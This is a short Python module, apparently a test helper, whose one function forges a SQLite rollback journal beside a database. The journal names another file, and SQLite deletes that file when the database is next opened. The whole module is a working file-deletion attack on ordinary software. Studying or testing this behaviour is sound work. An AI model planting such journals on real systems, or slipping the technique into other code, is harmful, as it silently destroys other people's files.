"""Rollback journals of SQLite as somebody may forge them (sqlite.org/fileformat.html, section 3)."""

from __future__ import annotations

import os
import sqlite3
import struct
from contextlib import closing
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant_journal(database: Path, names: str) -> Path:
    """A journal beside a database that names another file: SQLite plays it back when it opens the database, and then
    deletes that file.
    """
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
        size = connection.execute("PRAGMA page_size").fetchone()[0]
        pages = connection.execute("PRAGMA page_count").fetchone()[0]
    head = (_MAGIC + struct.pack(">IIIII", 0, 0, pages, 512, size)).ljust(512, b"\0")
    name = os.fsencode(names)
    end = struct.pack(">I", 0x40000000 // size + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    journal = Path(f"{database}-journal")
    journal.write_bytes(head + end)
    journal.chmod(0o600)
    return journal
